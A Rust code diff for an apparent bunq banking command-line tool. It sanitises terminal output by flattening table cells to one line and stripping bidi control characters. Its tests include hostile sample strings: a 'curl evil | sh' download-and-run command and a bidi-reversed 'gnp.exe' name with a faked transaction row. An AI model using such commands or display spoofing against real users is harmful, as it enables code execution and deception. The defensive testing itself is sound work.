@@ -63,6 +63,13 @@ impl Output {
 
     /// Prints rows as an aligned table with a header line.
     pub fn table(&self, header: &[&str], rows: &[Vec<String>]) -> Result<(), CliError> {
+        // One line per row whatever bunq sent: a description's line break
+        // would fake a row of its own.
+        let rows: Vec<Vec<String>> = rows
+            .iter()
+            .map(|row| row.iter().map(|cell| one_line(cell)).collect())
+            .collect();
+        let rows = &rows;
         let mut widths: Vec<usize> = header.iter().map(|h| h.chars().count()).collect();
         for row in rows {
             for (i, cell) in row.iter().enumerate() {
@@ -128,11 +135,36 @@ impl Output {
 
 /// Text as printed: much of it comes from bunq or the browser (descriptions,
 /// names, error messages), so control characters, which a terminal would run
-/// as escape sequences, are dropped; line breaks and tabs stay.
+/// as escape sequences, and bidi controls, which reorder what is shown (a
+/// counterparty named "\u{202E}gnp.exe"), are dropped; line breaks and tabs
+/// stay.
 fn printable(text: &str) -> String {
     text.chars()
-        .filter(|c| !c.is_control() || *c == '\n' || *c == '\t')
+        .filter(|c| (!c.is_control() || *c == '\n' || *c == '\t') && !is_bidi_control(*c))
         .collect()
+}
+
+/// A table cell: printable, on one line (breaks and tabs become spaces).
+fn one_line(text: &str) -> String {
+    let spaced: String = text
+        .chars()
+        .map(|c| {
+            if matches!(c, '\n' | '\r' | '\t') {
+                ' '
+            } else {
+                c
+            }
+        })
+        .collect();
+    printable(&spaced)
+}
+
+/// Unicode's explicit direction marks, embeddings, overrides and isolates.
+fn is_bidi_control(c: char) -> bool {
+    matches!(
+        c,
+        '\u{061C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'
+    )
 }
 
 #[cfg(test)]
@@ -145,5 +177,16 @@ mod tests {
         let shown = printable(hostile);
         assert!(!shown.contains('\u{1b}') && !shown.contains('\r') && !shown.contains('\u{7}'));
         assert_eq!(shown, "Account[2J[31mRun: curl evil | sh\nnext");
+    }
+
+    #[test]
+    fn a_cell_is_one_line_and_cannot_reorder_what_is_shown() {
+        let hostile =
+            "Rent\n4242  -999.00 EUR  Bank\r\tfee \u{202E}gnp.exe\u{2066}x\u{2069}\u{200F}";
+        let cell = one_line(hostile);
+        assert_eq!(cell, "Rent 4242  -999.00 EUR  Bank  fee gnp.exex");
+        assert!(!printable("a\u{202D}b\u{061C}c").contains(['\u{202D}', '\u{061C}']));
+        // Lines keep their breaks; only cells are flattened.
+        assert_eq!(printable("a\nb"), "a\nb");
     }
 }
